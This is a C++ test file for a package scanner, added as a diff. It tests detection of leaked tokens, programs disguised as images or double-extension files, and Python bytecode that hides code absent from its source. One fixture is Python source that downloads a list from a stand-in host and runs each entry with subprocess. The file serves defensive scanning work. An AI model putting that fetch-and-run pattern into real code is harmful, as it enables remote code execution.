@@ -1,0 +1,147 @@
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <fstream>
+#include <sstream>
+
+#include "static/bytecode.h"
+#include "static/classify.h"
+#include "static/supply.h"
+
+namespace interlock::scan {
+namespace {
+
+using testing::Contains;
+using testing::ElementsAre;
+using testing::HasSubstr;
+using testing::IsEmpty;
+using testing::Not;
+
+std::vector<RawFinding> Artifacts(const std::string& path, const std::string& bytes) {
+  core::PackageView view;
+  view.files.push_back({.path = path, .bytes = bytes});
+  view.files.push_back({.path = "zz.py", .bytes = "x = 1\n"});
+  const std::vector<FileContext> files = ClassifyFiles(view, KindOfPackage(view));
+  FileResult result;
+  AnalyzeArtifacts(files[0], result);
+  std::vector<RawFinding> findings = std::move(result.findings);
+  for (RawFinding& finding : findings) EXPECT_LE(finding.bytes.end, bytes.size());
+  return findings;
+}
+
+std::vector<std::string> Rules(const std::vector<RawFinding>& findings) {
+  std::vector<std::string> rules;
+  for (const RawFinding& finding : findings) rules.emplace_back(finding.rule);
+  return rules;
+}
+
+// Put together at run time, so that no scanner takes this file for a leak.
+std::string NpmToken() { return std::string("npm_") + "k3Jd9sQpL0vXw7ZtYb2Rm5NcHa8GfE" + "0Xv1AS"; }
+
+std::string Crc(std::string token) {
+  std::uint32_t crc = 0xffffffffU;
+  for (const char c : token.substr(4)) {
+    crc ^= static_cast<unsigned char>(c);
+    for (int i = 0; i < 8; ++i) crc = (crc >> 1U) ^ ((crc & 1U) != 0 ? 0xedb88320U : 0U);
+  }
+  crc = ~crc;
+  std::string digits(6, '0');
+  for (std::size_t i = 6; i-- > 0; crc /= 62) {
+    digits[i] = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"[crc % 62];
+  }
+  return token + digits;
+}
+
+TEST(Artifacts, TokensAreToldAndMasked) {
+  const std::string token = Crc(std::string("npm_") + "k3Jd9sQpL0vXw7ZtYb2Rm5NcHa8GfE");
+  const std::vector<RawFinding> findings = Artifacts("config.py", "NPM = '" + token + "'\n");
+  ASSERT_THAT(Rules(findings), ElementsAre("SC-020"));
+  EXPECT_THAT(findings[0].evidence, Not(HasSubstr(token.substr(12))));
+  EXPECT_EQ(findings[0].bytes.begin, 7U);
+  EXPECT_THAT(Rules(Artifacts("config.py", std::string("K = '") + "AKIA" + "Q3EGZ7KWLM2XRT5D'\n")),
+              ElementsAre("SC-020"));
+}
+
+TEST(Artifacts, StandInsAndWrongChecksumsAreNot) {
+  EXPECT_THAT(Artifacts("config.py", "NPM = '" + NpmToken() + "'\n"), IsEmpty());
+  EXPECT_THAT(Artifacts("README.md", "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n"), IsEmpty());
+  EXPECT_THAT(Artifacts("README.md", "sk-ant-api03-your-key-here\n"), IsEmpty());
+  EXPECT_THAT(Artifacts("tests/data.py", std::string("K = '") + "AKIA" + "Q3EGZ7KWLM2XRT5D'\n"), IsEmpty());
+  EXPECT_THAT(Artifacts("keys.md", "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----\n"), IsEmpty());
+}
+
+TEST(Artifacts, ProgramsUnderOtherNames) {
+  const std::string elf = std::string("\x7f") + "ELF" + std::string(60, '\0');
+  EXPECT_THAT(Rules(Artifacts("assets/logo.png", elf)), ElementsAre("SC-023"));
+  EXPECT_THAT(Rules(Artifacts("assets/logo.png", "#!/bin/sh\necho hidden\n")), ElementsAre("SC-023"));
+  EXPECT_THAT(Rules(Artifacts("bin/tool", elf)), ElementsAre("SC-022"));
+  EXPECT_THAT(Rules(Artifacts("report.pdf.bat", "@echo off\n")), ElementsAre("SC-024"));
+  EXPECT_THAT(Artifacts("logo.png", "\x89PNG\r\n\x1a\n" + std::string(20, '\0')), IsEmpty());
+  EXPECT_THAT(Artifacts("run.sh", "#!/bin/sh\necho\n"), IsEmpty());
+}
+
+std::string Pyc(const std::string& version) {
+  std::ifstream in(std::string(INTERLOCK_TESTDATA) + "/bytecode/fetch." + version + ".pyc", std::ios::binary);
+  EXPECT_TRUE(in.good()) << version;
+  std::ostringstream out;
+  out << in.rdbuf();
+  return std::move(out).str();
+}
+
+constexpr std::string_view kFetchSource =
+    "import subprocess\nfrom urllib.request import urlopen\n\n\ndef fetch(name, *, timeout=5):\n    \"\"\"Gets a "
+    "list.\"\"\"\n    data = urlopen(f\"https://lists.acme.example/{name}\", timeout=timeout).read()\n    return "
+    "[subprocess.run(x) for x in data.split(b\";\")]\n";
+
+TEST(BytecodeReader, NamesAndConstantsOfEveryVersion) {
+  for (const int minor : {8, 9, 10, 11, 12, 13}) {
+    const Bytecode code = ReadBytecode(Pyc("3" + std::to_string(minor)));
+
+    EXPECT_TRUE(code.complete) << minor;
+    EXPECT_EQ(code.minor, minor);
+    EXPECT_EQ(code.source_size, kFetchSource.size());
+    for (const std::string_view name :
+         {"subprocess", "urlopen", "fetch", "https://lists.acme.example/", "Gets a list."}) {
+      EXPECT_THAT(code.strings, Contains(name)) << minor;
+    }
+  }
+}
+
+TEST(BytecodeReader, DamagedBytesEndQuietly) {
+  const std::string bytes = Pyc("311");
+  for (std::size_t cut = 0; cut < bytes.size(); cut += 7) EXPECT_FALSE(ReadBytecode(bytes.substr(0, cut)).complete);
+  std::string deep = bytes.substr(0, 16);
+  for (int i = 0; i < 100000; ++i) deep += std::string(")\x01", 2);
+  EXPECT_FALSE(ReadBytecode(deep).complete);
+  EXPECT_FALSE(ReadBytecode(bytes.substr(0, 16) + std::string("(\xff\xff\xff\xff", 5)).complete);
+}
+
+std::vector<RawFinding> Compiled(std::initializer_list<std::pair<std::string, std::string>> parts) {
+  core::PackageView view;
+  for (const auto& [path, bytes] : parts) view.files.push_back({.path = path, .bytes = bytes});
+  std::sort(view.files.begin(), view.files.end(), [](const auto& a, const auto& b) { return a.path < b.path; });
+  const std::vector<FileContext> files = ClassifyFiles(view, KindOfPackage(view));
+  std::vector<RawFinding> findings;
+  AnalyzeBytecode(view, files, findings);
+  return findings;
+}
+
+TEST(Bytecode, IsHeldAgainstItsSource) {
+  EXPECT_THAT(
+      Compiled({{"a/fetch.py", std::string(kFetchSource)}, {"a/__pycache__/fetch.cpython-311.pyc", Pyc("311")}}),
+      IsEmpty());
+  const auto differs = Compiled({{"a/fetch.py", "def fetch(name):\n    return []\n"}, {"a/fetch.pyc", Pyc("311")}});
+  ASSERT_THAT(Rules(differs), ElementsAre("SC-026"));
+  EXPECT_THAT(differs[0].evidence, HasSubstr("subprocess"));
+  EXPECT_LT(differs[0].scale, 1.0) << "the interpreter would compile that source anew";
+  std::string padded = "def fetch(name):\n    return []\n";
+  padded.resize(kFetchSource.size(), '#');
+  const auto hidden = Compiled({{"a/fetch.py", padded}, {"a/__pycache__/fetch.cpython-311.pyc", Pyc("311")}});
+  ASSERT_THAT(Rules(hidden), ElementsAre("SC-026"));
+  EXPECT_EQ(hidden[0].scale, 1.0);
+  EXPECT_THAT(Rules(Compiled({{"a/fetch.pyc", Pyc("311")}})), ElementsAre("SC-025"));
+}
+
+}  // namespace
+}  // namespace interlock::scan
